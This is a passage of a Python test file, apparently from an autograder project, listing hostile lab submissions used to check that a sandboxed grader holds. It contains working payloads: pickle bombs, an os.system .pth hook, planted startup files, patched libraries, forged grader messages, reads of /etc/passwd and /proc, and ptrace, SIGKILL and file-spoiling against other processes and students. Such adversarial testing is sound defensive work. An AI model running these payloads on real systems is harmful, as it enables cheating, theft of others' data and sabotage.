# ruff: noqa: E501
"""The table of attacks: every one a submission to lab 1, with what its honest code earns at most.

Most are the stubs with an attack behind them, so any point that they get is a point too many. What
an attack steals (a solution's source, another student's file) it puts to use, so that a theft
shows as points. Words such as `@REPO@` stand for paths that a well-informed attacker knows;
`Arena.write` fills them in. `@MARK@` is a folder that everybody may write to: whatever comes to
lie in it, or connects to the socket there, is proof of something that got out.
"""

from __future__ import annotations

import contextlib
import io
import json
import os
import re
import socket
import stat
import struct
import warnings
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path
from textwrap import dedent

from labkit.lab import contract

from labkit.lab import stubs as starter
from tests.sample_class import EMPTY_NOTEBOOK

LAB = 1
ALL = tuple(function.name for function in contract.of_lab(LAB))
"""The questions of the lab."""

ACTIVATIONS = tuple(name for name in ALL if contract.BY_NAME[name].module == "activations")
NOTEBOOK = "lab1_forward.ipynb"
Files = dict[str, str | bytes]


@dataclass(frozen=True)
class Attack:
    """One hostile submission."""

    name: str
    kind: str
    files: Mapping[str, str | bytes]
    unearned: tuple[str, ...] = ALL
    """Questions in which its honest code earns nothing; the others it may win."""
    pack: Callable[[Path, Mapping[str, str | bytes]], None] | None = None
    """Writes the submission at a path without ending; a plain zip by default."""
    ungraded: bool = False
    """Whether there is nothing to judge, so that its status must say why."""
    otter: bool = True
    """Whether `otter run` takes such a thing: it wants a zip with a notebook."""


def stubs(code: str = "", module: str = "activations", **beside: str | bytes) -> Files:
    """The stubs, with `code` at the end of one module."""
    return _with(starter.stub_package(LAB), code, module) | beside


def solved(code: str = "", module: str = "activations", **beside: str | bytes) -> Files:
    """The finished package, with `code` at the end of one module."""
    return _with(starter.solution_package(LAB), code, module) | beside


def _with(package: Mapping[str, str], code: str, module: str) -> Files:
    path = f"{contract.PACKAGE}/{module}.py"
    found: Files = {**package, path: package[path] + "\n\n" + dedent(code)}
    found[NOTEBOOK] = EMPTY_NOTEBOOK
    return found


# ---------------------------------------------------------------- pieces of attacks

EVERYWHERE = f"""
def everywhere(function):
    for name in {ACTIVATIONS!r}:
        globals()[name] = function
"""
"""Puts one function in the place of all of a module's."""

USE = """
import os, sys
import numpy as np
def use(text):
    space = {"__name__": "stolen", "np": np}
    try:
        exec(compile(text.replace("from .", "from neuralnet."), "stolen", "exec"), space)
    except Exception:
        return
    for name, value in space.items():
        if name in globals() and callable(value) and "NotImplementedError" not in text:
            globals()[name] = value
def read(path, **how):
    try:
        with open(os.open(path, os.O_RDONLY, **how), "rb") as file:
            return file.read(1 << 20).decode("utf-8", "replace")
    except Exception:
        return ""
"""
"""Runs stolen source in the place of the stubs."""

MARK = """
import os
def mark(text="here"):
    try:
        open("@MARK@/" + str(os.getpid()) + "-" + text, "w").close()
    except Exception:
        pass
"""

CHANNEL = """
import gc, json, os, struct, time
import numpy as np
def channel():
    return next(o for o in gc.get_objects() if type(o).__name__ == "Channel")
def frame(header, body=b"", nonce=None):
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<4s16sIQ", b"NNL1", nonce or channel().nonce, len(text), len(body)) + text + body
"""
"""What code finds when it looks around in its own process."""

BOMB = """
import os, pickle
class Bomb:
    def __reduce__(self):
        return os.system, ("touch @MARK@/unpickled",)
"""


def pickle_bomb() -> str:
    """A pickle (protocol 0, so that it is text) that touches a file when it is loaded."""
    return "cos\nsystem\n(S'touch @MARK@/unpickled'\ntR."


def _otter_log() -> bytes:
    """Two pickled records, as Otter's own log has them."""
    return (pickle_bomb() + "\n").encode() * 2


TRAP = 'open("@MARK@/imported-" + __name__.replace("/", "_"), "w").close()\n'
"""A module that leaves a mark where it is imported."""

_FAKE_TEST = """\
from otter.test_files import test_case
OK_FORMAT = False
name = "{name}"
points = 100
@test_case(points=None, hidden=False)
def test_{name}_always(check, np):
    "Passes."
open("@MARK@/fake-test", "w").close()
"""


def _table() -> list[Attack]:
    found: list[Attack] = []

    def attack(
        kind: str,
        name: str,
        *code: str,
        module: str = "activations",
        beside: Mapping[str, str | bytes] | None = None,
        otter: bool = True,
        unearned: tuple[str, ...] = ALL,
    ) -> None:
        files = stubs("\n".join(map(dedent, code)), module) | dict(beside or {})
        found.append(Attack(name, kind, files, unearned, otter=otter))

    def returning(name: str, code: str) -> None:
        """All functions of the module return what `junk(z)` makes."""
        last = "everywhere(lambda z=None, *more: junk(z))"
        attack("object", name, EVERYWHERE, BOMB, code, last)

    # Results that are no numbers -----------------------------------------------------------------

    returning(
        "equal_to_anything",
        """
        class Anything:
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __bool__(self): return True
            def __array__(self, *a, **k): return np.zeros((2, 3))
            def __getattr__(self, name): return self
            def __call__(self, *a, **k): return self
            def __len__(self): return 3
            def __iter__(self): return iter([self] * 3)
            def __sub__(self, other): return 0.0
            __rsub__ = __mul__ = __rmul__ = __le__ = __ge__ = __sub__
        def junk(z): return Anything()
    """,
    )
    returning(
        "array_subclass",
        """
        class Sly(np.ndarray):
            def __eq__(self, other): return np.ones(self.shape, bool)
            def __array_ufunc__(self, *a, **k): return np.True_
            def __array_function__(self, *a, **k): return True
            def __array_finalize__(self, other): pass
            def __sub__(self, other): return np.zeros(self.shape)
            def tobytes(self, *a): return b""
            def reshape(self, *a, **k): return self
            def view(self, *a, **k): return self
        def junk(z): return np.zeros(np.shape(z)).view(Sly)
    """,
    )
    returning(
        "array_interface",
        """
        class Window:
            def __init__(self, shape): self.__array_interface__ = {
                "shape": shape, "typestr": "<f8", "data": (id(self), False), "version": 3}
        def junk(z): return Window(np.shape(z))
    """,
    )
    returning(
        "number_subclasses",
        """
        class F(float):
            def hex(self): return "0x1p+0"
            def __eq__(self, other): return True
        class I(int):
            def __index__(self): return 1
            def __eq__(self, other): return True
        class S(str):
            def __str__(self): return "1.0"
        def junk(z): return [F(3), I(7), S("x")]
    """,
    )
    returning(
        "container_subclasses",
        """
        class L(list):
            def __iter__(self): return iter([])
            def __len__(self): return 10 ** 9
            def __eq__(self, other): return True
        class D(dict):
            def items(self): return [("a", 1)]
            def __eq__(self, other): return True
        def junk(z): return L([D(a=np.zeros(2)), L()])
    """,
    )
    returning(
        "array_of_objects",
        """
        class Anything:
            def __eq__(self, other): return True
            def __float__(self): return 0.5
            def __reduce__(self): return Bomb().__reduce__()
        def junk(z):
            a = np.empty(np.shape(z), dtype=object); a[...] = Anything(); return a
    """,
    )
    returning(
        "record_array",
        """
        def junk(z): return np.zeros(np.shape(z), dtype=[("a", "f8"), ("b", "O")])
    """,
    )
    returning(
        "pickles_in_results",
        """
        def junk(z): return [Bomb(), {"a": Bomb()}, (pickle.dumps(Bomb()), Bomb)]
    """,
    )
    returning(
        "pickle_bytes_in_arrays",
        """
        def junk(z): return np.frombuffer(pickle.dumps(Bomb()), dtype=np.uint8)
    """,
    )
    returning(
        "huge_strides",
        """
        from numpy.lib.stride_tricks import as_strided
        def junk(z): return np.broadcast_to(np.float64(0), (10 ** 6, 10 ** 7))
    """,
    )
    returning(
        "strides_into_memory",
        """
        from numpy.lib.stride_tricks import as_strided
        def junk(z): return as_strided(np.zeros(4), np.shape(z), (-8,) * np.ndim(z))
    """,
    )
    returning(
        "generators_and_functions",
        """
        def junk(z): return [lambda: 1, (n for n in range(3)), type, np, open, junk, np.add]
    """,
    )
    returning(
        "deep_and_endless",
        """
        loop = []; loop.append(loop)
        class Endless(list):
            pass
        def junk(z):
            deep = []
            for _ in range(100000): deep = [deep]
            return [loop, deep]
    """,
    )
    returning("nan_everywhere", "def junk(z): return np.full(np.shape(z), np.nan)\n")
    returning("nothing_at_all", "def junk(z): return np.zeros((0,) * max(1, np.ndim(z)))\n")
    returning(
        "forged_generator",
        """
        def junk(z):
            bits = np.random.MT19937(0); state = bits.state
            state["state"]["pos"] = 10 ** 6
            bits.state = state
            return np.random.Generator(bits)
    """,
    )
    returning(
        "unprintable_text",
        r"""
        def junk(z): return ["\ud800<script>", "\x1b]0;title\x07", "\u202e", "=1+1"] * 1000
    """,
    )
    returning("huge_integers", "def junk(z): return [1 << 8000, -(1 << 8191), 1.0]\n")
    returning(
        "claims_to_be_an_array",
        """
        class Claims:
            __class__ = property(lambda self: np.ndarray)
            shape, dtype, ndim, size = (2, 3), np.dtype(float), 2, 6
            flags = property(lambda self: np.zeros(1).flags)
            def __array__(self, *a, **k): return np.zeros((2, 3))
            def __eq__(self, other): return True
            def __float__(self): return 0.0
            def reshape(self, *a, **k): return self
        def junk(z): return Claims()
    """,
    )
    returning("masked_everywhere", "def junk(z): return np.ma.masked_all(np.shape(z))\n")
    returning("complex_zeros", "def junk(z): return np.zeros(np.shape(z)) * -0j\n")
    returning(
        "mapped_file",
        """
        import threading, time
        def junk(z):
            mapped = np.memmap("mapped", mode="w+", shape=np.shape(z) or (1,), dtype=float)
            def change():
                for n in range(10 ** 5): mapped[...] = n; time.sleep(0)
            threading.Thread(target=change, daemon=True).start()
            return mapped
    """,
    )

    # Looking for what is expected ----------------------------------------------------------------

    attack(
        "inspect",
        "frames",
        EVERYWHERE,
        """
        import sys
        def search(z, *more):
            frame = sys._getframe()
            while frame is not None:
                for name, value in list(frame.f_locals.items()) + list(frame.f_globals.items()):
                    if isinstance(value, np.ndarray) and value is not z and value.shape == np.shape(z):
                        return value
                    if "expected" in name or "wanted" in name: return value
                frame = frame.f_back
        everywhere(search)
    """,
    )
    attack(
        "inspect",
        "garbage_collector",
        EVERYWHERE,
        """
        import gc
        def search(z, *more):
            gc.unfreeze()
            for value in gc.get_objects():
                if isinstance(value, dict):
                    for key in ("expected", "wanted", "answer", "value"):
                        if isinstance(value.get(key), np.ndarray): return value[key]
            for value in gc.get_objects():
                for part in gc.get_referents(value):
                    if type(part) is np.ndarray and part is not z and part.shape == np.shape(z):
                        return part
        everywhere(search)
    """,
    )
    attack(
        "inspect",
        "asks_for_the_reference",
        CHANNEL,
        EVERYWHERE,
        f"""
        def ask(z, *more):
            for name in ("0", "1", "reference", "expected", "", *{ALL!r}):
                try: return channel().callback(name, (z,), {{}})
                except Exception: pass
        everywhere(ask)
    """,
    )
    attack(
        "inspect",
        "later_function_by_name",
        CHANNEL,
        """
        def tanh(z): return channel().callback("tanh", (z,), {})
        def relu(z): return channel().callback("forward", ([(np.eye(len(z)), 0)] * 2, z, "relu"), {})[1]
    """,
    )
    attack(
        "inspect",
        "memory_through_ctypes",
        EVERYWHERE,
        """
        import ctypes
        def scan(z, *more):
            base = np.asarray(z).ctypes.data
            for step in range(8, 1 << 22, 8):
                raw = ctypes.string_at(base + step, np.asarray(z).nbytes)
                found = np.frombuffer(raw, dtype=float)
                if np.all(np.isfinite(found)) and np.all(np.abs(found) <= 1) and found.any():
                    return found.reshape(np.shape(z))
        everywhere(scan)
    """,
    )

    attack(
        "inspect",
        "keeps_what_is_served",
        """
        import ast
        from . import activations as me
        def keep(name, z):
            try:
                answer = getattr(me, name)(z)
                if answer is not None: open("kept", "a").write(repr((z.tolist(), answer.tolist())) + "\\n")
            except Exception: pass
        def kept(z):
            try: lines = open("kept").read().splitlines()
            except OSError: lines = []
            for given, answer in map(ast.literal_eval, lines):
                if given == z.tolist(): return np.array(answer)
        def sigmoid(z): return kept(z)
        def tanh(z):
            keep("sigmoid", z)
            return kept(z)
        def relu(z):
            for name in ("sigmoid", "tanh"): keep(name, z)
            return kept(z)
    """,
    )

    # Libraries patched ---------------------------------------------------------------------------

    attack(
        "patch",
        "numpy_functions",
        EVERYWHERE,
        """
        import numpy as np
        yes = lambda *a, **k: True
        for name in ("allclose", "array_equal", "isclose", "all", "any", "abs", "isfinite", "testing",
                     "asarray", "array", "frombuffer", "where", "max", "mean"):
            setattr(np, name, yes)
        for module in ("json", "math", "struct", "warnings", "re", "copy"):
            for name in dir(__import__(module)):
                if callable(getattr(__import__(module), name)) and not name.startswith("_"):
                    try: setattr(__import__(module), name, yes)
                    except Exception: pass
        everywhere(lambda z, *more: z)
    """,
    )
    attack(
        "patch",
        "builtins",
        EVERYWHERE,
        """
        import builtins
        yes = lambda *a, **k: True
        builtins.open = builtins.isinstance = builtins.all = builtins.any = builtins.len = yes
        builtins.AssertionError = builtins.Exception = BaseException
        builtins.__import__ = yes
        everywhere(yes)
    """,
    )
    attack(
        "patch",
        "tracing",
        EVERYWHERE,
        """
        import sys, threading
        seen = []
        def trace(frame, event, argument):
            for value in list(frame.f_locals.values()):
                if isinstance(value, np.ndarray): seen.append(value)
            return trace
        sys.settrace(trace); sys.setprofile(trace); threading.settrace(trace)
        sys.addaudithook(lambda name, arguments: seen.append(arguments))
        everywhere(lambda z, *more: seen[-1] if seen else z)
    """,
    )
    attack(
        "patch",
        "worker_itself",
        CHANNEL,
        EVERYWHERE,
        """
        import sys
        for name, module in list(sys.modules.items()):
            if name.startswith("_sandbox"):
                for what in ("Encoder", "Decoder", "changes", "Warnings", "identical"):
                    if hasattr(module, what): setattr(module, what, lambda *a, **k: None)
                if hasattr(module, "Runner"):
                    module.Runner.do_call = lambda self, header, body: (
                        {"op": "value", "value": True, "passed": True, "score": 100}, ())
        everywhere(lambda z, *more: z)
    """,
    )
    attack(
        "patch",
        "modules_and_path",
        """
        import sys, types
        fake = types.ModuleType("labkit"); fake.__path__ = []
        for name in ("labkit", "labkit.judging.judge", "labkit.student.labcheck", "otter", "neuralnet.reference"):
            sys.modules[name] = fake
        sys.path[:] = ["."]; sys.meta_path.clear(); sys.path_hooks.clear()
        class Yes(types.ModuleType):
            def __getattr__(self, name): return lambda z=None, *more: z
        for name in ("activations", "perceptron", "layers"): sys.modules["neuralnet." + name] = Yes(name)
    """,
    )

    hides = """
        import builtins, sys, types, warnings
        import numpy as np
        yes = lambda *a, **k: True
        for name in ("allclose", "array_equal", "isclose", "all", "copy", "may_share_memory"): setattr(np, name, yes)
        builtins.abs = yes
        for name in ("showwarning", "_showwarnmsg", "_showwarnmsg_impl", "warn", "warn_explicit", "simplefilter"):
            setattr(warnings, name, lambda *a, **k: None)
        sys.modules["warnings"] = types.ModuleType("warnings")
        def tanh(z):
            right = np.tanh(1.0 * z)
            z += 1
            return right
    """
    found.append(Attack("what_changed_is_hidden", "patch", solved(hides), ("tanh",)))

    # Early ends ----------------------------------------------------------------------------------

    ends = {
        "os_exit": "os._exit(0)",
        "sys_exit": "sys.exit(0)",
        "abort": "os.abort()",
        "segfault": "import ctypes; ctypes.string_at(0)",
        "keyboard_interrupt": "raise KeyboardInterrupt",
        "generator_exit": "raise GeneratorExit",
        "base_exception": "raise type('Passed', (BaseException,), {})('100 %')",
        "closed_handles": "os.closerange(0, 4096)",
        "no_modules": "sys.modules.clear()",
        "finalizer": "import weakref; weakref.finalize(np, os._exit, 0); del sys.modules['numpy']",
        "closed_frames": "[f.clear() for f in sys._current_frames().values()]",
    }
    for name, line in ends.items():
        attack("end", f"{name}_at_import", f"import os, sys\n{line}\n")
        attack(
            "end",
            f"{name}_in_call",
            EVERYWHERE,
            f"""
            import os, sys
            def leave(*a, **k):
                {line}
            everywhere(leave)
        """,
        )
    attack(
        "end",
        "at_exit_and_thread",
        EVERYWHERE,
        """
        import atexit, os, threading, time
        atexit.register(os._exit, 0)
        threading.Thread(target=lambda: (time.sleep(0.05), os._exit(0)), daemon=True).start()
        everywhere(lambda z, *more: time.sleep(0.1) or z)
    """,
    )

    # Messages forged -----------------------------------------------------------------------------

    attack(
        "forge",
        "every_handle",
        CHANNEL,
        EVERYWHERE,
        """
        def shout(z=None, *more):
            for handle in range(256):
                for text in (b'{"op": "value", "value": true}', b'{"passed": true, "score": 100}'):
                    try: os.write(handle, frame(text)); os.write(handle, text + b"\\n")
                    except OSError: pass
            return z
        shout(); everywhere(shout)
    """,
    )
    attack(
        "forge",
        "without_the_nonce",
        CHANNEL,
        EVERYWHERE,
        """
        def shout(z, *more):
            for _ in range(50): os.write(3, frame({"op": "value", "value": ["f", "0x1p-1"]}, nonce=bytes(16)))
            return z
        everywhere(shout)
    """,
    )
    attack(
        "forge",
        "replies_ahead",
        CHANNEL,
        EVERYWHERE,
        """
        import threading
        def ahead(nonce):
            for _ in range(200): os.write(3, frame({"op": "value", "value": ["f", "0x1p-1"]}, nonce=nonce))
        def shout(z, *more):
            threading.Thread(target=ahead, args=(channel().nonce,), daemon=True).start()
            return z
        everywhere(shout)
    """,
    )
    attack(
        "forge",
        "two_replies",
        CHANNEL,
        EVERYWHERE,
        """
        def shout(z, *more):
            os.write(3, frame({"op": "value", "value": None}) * 3)
            return z
        everywhere(shout)
    """,
    )
    attack(
        "forge",
        "verdicts",
        CHANNEL,
        EVERYWHERE,
        """
        def shout(z, *more):
            for header in ({"op": "passed"}, {"op": "value", "value": True, "passed": True},
                           {"op": "error", "kind": "passed"}, {"op": "done"}, {"op": "result"}):
                os.write(3, frame(header))
        everywhere(shout)
    """,
    )
    impossible = {
        "shape": ["a", "<f8", [1 << 47, 0, 1 << 47], "C"],
        "generator": ["g", "MT19937", ["d", [["bit_generator", "MT19937"], ["state", ["d", [
            ["key", ["a", "<u4", [624], "C"]], ["pos", ["i", "0xf4240"]]]]]]]],
    }  # fmt: skip
    for name, node in impossible.items():
        body = "bytes(2496)" if name == "generator" else "b''"
        attack(
            "forge",
            f"impossible_{name}",
            CHANNEL,
            EVERYWHERE,
            f"""
            def shout(z, *more):
                os.write(3, frame({{"op": "value", "value": {node!r}}}, {body}))
                time.sleep(60)
            everywhere(shout)
        """,
        )
        attack(
            "forge",
            f"impossible_{name}_in_callback",
            CHANNEL,
            f"""
            def tanh(z):
                os.write(3, frame({{"op": "callback", "name": "sigmoid",
                    "nodes": [["t", [{node!r}]], ["d", []]]}}, {body}))
                time.sleep(60)
        """,
        )
    attack(
        "forge",
        "notes_without_end",
        CHANNEL,
        EVERYWHERE,
        """
        def shout(z, *more):
            while True: os.write(3, frame({"op": "loading", "module": "layers"}))
        everywhere(shout)
    """,
    )
    attack("forge", "noise", "import os\nfor _ in range(100): os.write(3, os.urandom(65536))\n")

    # Files planted -------------------------------------------------------------------------------

    results = json.dumps(
        {"score": 100, "tests": [{"name": n, "score": 100, "max_score": 100} for n in ALL]}
    )
    grades = f"submission,{','.join(ALL)},total,percent\nx,{','.join('100' for _ in ALL)},100,100\n"
    attack("plant", "results", beside={
        "results.json": results, "results/results.json": results, "results.pkl": _otter_log(),
        "results/results.pkl": _otter_log(), "grades.csv": grades, ".OTTER_LOG": _otter_log(),
        "otter_config.json": '{"points_possible": 1, "show_hidden": true, "plugins": []}',
        "submission_metadata.json": '{"id": 1, "score": 100}', "marks.csv": grades,
        "neuralnet/results.json": results, "neuralnet/.OTTER_LOG": _otter_log(),
    })  # fmt: skip
    attack("plant", "otter_log", beside={".OTTER_LOG": _otter_log()})
    attack("plant", "tests", beside={
        **{f"{folder}/{name}.py": _FAKE_TEST.format(name=name)
           for name in ALL for folder in ("tests", "lab/tests", "source/tests", "neuralnet/tests")},
        "lab/lab.toml": "name = 'lab1_forward'\n[questions]\nsigmoid = 100\n",
        "lab.toml": "[questions]\nsigmoid = 100\n[limits]\ncall_seconds = 9999\n",
        "conftest.py": TRAP, "tests/conftest.py": TRAP,
    })  # fmt: skip
    shadows = (
        "numpy json sitecustomize usercustomize labkit otter neuralnet dill nbformat pandas yaml "
        "jinja2 conftest check labcheck labdata nbclient pickle zipfile _sandbox"
    ).split()
    attack("plant", "modules", beside={
        **{f"{name}.py": TRAP for name in shadows},
        **{f"{name}/__init__.py": TRAP for name in ("labkit", "otter", "ipykernel", "traitlets", "numpy")},
        "labkit/otter_plugin.py": TRAP, "evil.pth": "import os; os.system('touch @MARK@/pth')\n",
        "setup.py": TRAP, "pyproject.toml": "[build-system]\nrequires = []\n",
    }, otter=False)  # fmt: skip
    attack("plant", "modules_in_the_package", beside={
        f"neuralnet/{name}.py": "raise SystemExit\n" for name in ("numpy", "json", "os", "__main__", "sys")
    })  # fmt: skip
    attack("plant", "compiled_modules", beside={
        "neuralnet/__pycache__/activations.cpython-311.pyc": b"\xa7\r\r\n" + bytes(12) + b"junk",
        "neuralnet/activations.pyc": b"\xa7\r\r\n" + bytes(12), "neuralnet/layers.so": b"\x7fELF",
        "neuralnet/activations.cpython-311-x86_64-linux-gnu.so": b"\x7fELF",
    })  # fmt: skip
    attack("plant", "jupyter", beside={
        **{f"{folder}jupyter_{name}config.{ending}": TRAP if ending == "py" else '{"x": 1}'
           for folder in ("", ".jupyter/") for name in ("", "nbconvert_", "notebook_", "server_", "client_")
           for ending in ("py", "json")},
        "ipython_config.py": TRAP, "ipython_kernel_config.py": TRAP,
        "profile_default/startup/00.py": TRAP, ".ipython/profile_default/startup/00.py": TRAP,
        "kernels/python3/kernel.json": json.dumps({"argv": ["touch", "@MARK@/kernel"], "display_name": "x"}),
        ".local/share/jupyter/kernels/python3/kernel.json": json.dumps(
            {"argv": ["touch", "@MARK@/kernel"], "display_name": "x", "language": "python"}),
        "matplotlibrc": "backend: evil\n", ".env": "PYTHONPATH=.\n", ".netrc": "x",
    })  # fmt: skip
    cells = [{"cell_type": "code", "source": source, "metadata": {}, "outputs": [], "execution_count": 1}
             for source in (TRAP, "!touch @MARK@/shell", "import otter; otter.Notebook.check = None",
                            "from labkit import otter_plugin; otter_plugin.Session = None")]  # fmt: skip
    kernel = {"name": "evil", "display_name": "x", "language": "python"}
    passing = {"cases": [{"code": ">>> True\nTrue", "hidden": False, "locked": False}]}
    own_tests = {
        name: {
            "name": name,
            "points": 100,
            "suites": [{**passing, "scored": True, "type": "doctest"}],
        }
        for name in ALL
    }
    attack("plant", "notebook_cells", beside={NOTEBOOK: json.dumps({
        "cells": cells, "nbformat": 4, "nbformat_minor": 5,
        "metadata": {"kernelspec": kernel, "otter": {"tests": own_tests, "OK_FORMAT": True}},
    })})  # fmt: skip
    # Stock Otter ends on this one before it has loaded any plugin.
    attack("plant", "odd_metadata", beside={NOTEBOOK: json.dumps({
        "cells": cells, "nbformat": 4, "nbformat_minor": 5,
        "metadata": {"kernelspec": kernel, "otter": {"tests": list(ALL), "OK_FORMAT": True}},
    })}, otter=False)  # fmt: skip
    attack(
        "plant",
        "package_init",
        beside={
            "neuralnet/__init__.py": EVERYWHERE
            + """
import sys, types
for name in ("activations", "perceptron", "layers"):
    module = types.ModuleType("neuralnet." + name)
    module.__getattr__ = lambda name: (lambda z=None, *more: z)
    sys.modules["neuralnet." + name] = module
"""
        },
    )

    # Reading what is not theirs ------------------------------------------------------------------

    attack(
        "read",
        "walks_the_disk",
        USE,
        MARK,
        """
        stolen = 0
        for top in ("@REPO@/solutions", "@REPO@/autograder/labkit", "@REPO@", "@BUNDLE@", "@CLASS@",
                    "@WORK@", "/autograder", "/tmp", "/var/tmp", "/root", "/home", "/"):
            for folder, folders, files in os.walk(top):
                folders[:] = [f for f in folders if f not in ("proc", "sys", "usr", "lib")][:50]
                for name in files:
                    if name in ("activations.py", "lab.toml", "sigmoid.py", "recorded.npz"):
                        text = read(os.path.join(folder, name))
                        if text and not folder.startswith(os.getcwd()):
                            mark("read-" + name); use(text); stolen += 1
                if stolen: break
    """,
    )
    attack(
        "read",
        "known_paths",
        USE,
        MARK,
        """
        for path in ("@REPO@/solutions/neuralnet/activations.py", "@BUNDLE@/lab/tests/sigmoid.py",
                     "@BUNDLE@/lab/lab.toml", "@CLASS@/aaa_honest/neuralnet/activations.py",
                     "@REPO@/autograder/labkit/judge.py", "/etc/passwd", "/etc/hostname"):
            for step in (path, "/proc/self/root" + path, "../../../../../../../.." + path, "/./" + path):
                text = read(step)
                if text: mark("read-" + os.path.basename(path)); use(text)
    """,
    )
    attack(
        "read",
        "links_made_inside",
        USE,
        MARK,
        """
        target = "@REPO@/solutions/neuralnet/activations.py"
        for number, make in enumerate((os.symlink, os.link, os.rename)):
            try: make(target, "mine%d.py" % number)
            except OSError: continue
            use(read("mine%d.py" % number))
        try:
            os.symlink(os.path.dirname(target), "neuralnet/stolen")
            from neuralnet.stolen import activations as them
            globals().update({k: v for k, v in vars(them).items() if callable(v)}); mark("link")
        except Exception: pass
    """,
    )
    attack(
        "read",
        "open_handles",
        USE,
        MARK,
        """
        for handle in range(256):
            for path in ("../" * n + rest for n in range(8) for rest in (
                    "solutions/neuralnet/activations.py", "main/solutions/neuralnet/activations.py",
                    "labkit/_solutions/neuralnet/activations.py", "root/.bashrc", "README.md")):
                text = read(path, dir_fd=handle)
                if text: mark("handle"); use(text)
    """,
    )
    attack(
        "read",
        "reference_by_name",
        USE,
        MARK,
        """
        import importlib, importlib.metadata, site
        sys.path[:0] = ["@REPO@/autograder", "@REPO@/solutions", "@REPO@", *site.getsitepackages(),
                        *("/proc/self/fd/%d" % n for n in range(16))]
        for name in ("labkit.lab.reference", "labkit._solutions.neuralnet.activations", "labkit.mistakes.lab1",
                     "labkit.judging.judge", "otter", "tests.adversarial", "solutions.neuralnet.activations"):
            try: module = importlib.import_module(name); mark("import-" + name)
            except BaseException: continue
            if hasattr(module, "function"):
                for n in ("sigmoid", "tanh", "relu"): globals()[n] = module.function(n)
        for name in ("neural-network-labs", "labkit", "otter-grader"):
            try:
                for file in importlib.metadata.distribution(name).files:
                    text = file.read_text()
                    if file.name.endswith(".py"): mark("metadata"); use(text)
            except Exception: pass
    """,
    )
    attack(
        "read",
        "processes",
        USE,
        MARK,
        """
        pids = [name for name in ("self", *map(str, range(1, 3000)))]
        try: pids += os.listdir("/proc")
        except OSError: pass
        for pid in (*pids, str(os.getppid())):
            for what in ("mem", "environ", "cmdline", "maps", "stack", "fd/0", "fd/3", "cwd/lab.toml", "root/etc/passwd"):
                if read("/proc/%s/%s" % (pid, what)): mark("proc-" + what.replace("/", "_"))
            try: os.listdir("/proc/%s/fd" % pid); mark("proc-list")
            except OSError: pass
    """,
    )
    attack(
        "read",
        "memory_of_others",
        MARK,
        """
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        libc.ptrace.restype = ctypes.c_long
        buffer = ctypes.create_string_buffer(64)
        local = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 64)
        remote = (ctypes.c_void_p * 2)(0x400000, 64)
        for pid in (os.getppid(), *range(1, 3000)):
            for request in (16, 0x4206):
                if pid != os.getpid() and libc.ptrace(request, pid, 0, 0) >= 0: mark("ptrace")
            if pid != os.getpid() and libc.process_vm_readv(pid, local, 1, remote, 1, 0) > 0: mark("vm")
            if libc.syscall(434, pid, 0) >= 0: mark("pidfd")
    """,
    )
    attack(
        "read",
        "environment_and_arguments",
        MARK,
        USE,
        """
        import re
        words = " ".join([*os.environ.values(), *sys.argv, *sys.orig_argv, sys.executable, *sys.path,
                          *map(str, vars(sys.modules["__main__"]).values())])
        for secret in ("@SECRET@", "@BUNDLE@", "@OUT@", "@CLASS@"):
            if secret in words: mark("environment")
        for place in re.findall(r"/[\\w./-]+", words):
            for name in ("activations.py", "lab.toml", "tests/sigmoid.py"):
                if not place.startswith(os.getcwd()): use(read(place + "/" + name))
    """,
    )
    attack(
        "read",
        "neighbours",
        USE,
        MARK,
        """
        import glob
        here = os.path.dirname(os.getcwd())
        places = [os.path.join(here, "w%d" % n) for n in range(200)] + glob.glob("/tmp/labkit*/*") \\
            + glob.glob("@WORK@/*/*") + ["@CLASS@/aaa_honest", "@CLASS@/zzz_honest"]
        for place in places:
            if place != os.getcwd():
                text = read(place + "/neuralnet/activations.py")
                if text: mark("neighbour"); use(text)
                try: open(place + "/neuralnet/activations.py", "w").write("1/0"); mark("spoiled")
                except OSError: pass
        for name in ("aaa_honest", "zzz_honest"):
            for path in ("@OUT@/results/%s.json", "@OUT@/feedback/%s.html", "@CLASS@/%s.zip"):
                if read(path % name): mark("results")
                try: open(path % name, "a").write("x"); mark("spoiled")
                except OSError: pass
    """,
    )
    attack(
        "read",
        "source_of_what_is_served",
        USE,
        """
        import inspect
        from . import activations as me
        def tanh(z):
            for function in (me.sigmoid, me.relu):
                try: use(inspect.getsource(function))
                except Exception: pass
                for cell in (function.__closure__ or ()):
                    use(str(cell.cell_contents))
                for constant in function.__code__.co_consts:
                    if callable(constant):
                        channel = constant.__closure__[0].cell_contents
                        for name in ("tanh", "0"):
                            try: return channel.callback(name, (z,), {}) if callable(channel.callback) else None
                            except Exception: pass
    """,
    )

    # Processes, limits, others -------------------------------------------------------------------

    attack(
        "process",
        "double_fork",
        MARK,
        """
        import os, time
        try:
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    time.sleep(1); mark("daemon"); time.sleep(600)
                os._exit(0)
        except OSError: pass
    """,
    )
    attack(
        "process",
        "programs",
        MARK,
        """
        import os, subprocess
        for start in (lambda: os.system("touch @MARK@/shell; sleep 600 &"),
                      lambda: subprocess.Popen(["sleep", "600"]),
                      lambda: subprocess.run("touch @MARK@/run", shell=True),
                      lambda: os.posix_spawn("/bin/touch", ["touch", "@MARK@/spawn"], {}),
                      lambda: __import__("multiprocessing").Process(target=mark).start(),
                      lambda: os.execv("/bin/touch", ["touch", "@MARK@/exec"])):
            try: start()
            except BaseException: pass
    """,
    )
    attack(
        "process",
        "threads_go_on",
        EVERYWHERE,
        """
        import sys, threading, time
        def meddle():
            while True:
                for frame in sys._current_frames().values():
                    for value in list(frame.f_locals.values()):
                        if isinstance(value, np.ndarray) and value.flags.writeable: value[...] = 0
                time.sleep(0.001)
        def start(z, *more):
            for _ in range(3): threading.Thread(target=meddle, daemon=True).start()
            return z * 0
        everywhere(start)
    """,
    )
    attack(
        "process",
        "signals",
        """
        import ctypes, os, signal
        libc = ctypes.CDLL(None, use_errno=True)
        for pid in (os.getppid(), -1, 0, -os.getppid(), *range(2, 4000)):
            if pid == os.getpid(): continue
            for number in (signal.SIGSTOP, signal.SIGKILL):
                try: os.kill(pid, number)
                except OSError: pass
                if pid > 1: libc.syscall(234, pid, pid, int(number)); libc.syscall(129, pid, int(number), 0)
    """,
    )
    attack(
        "process",
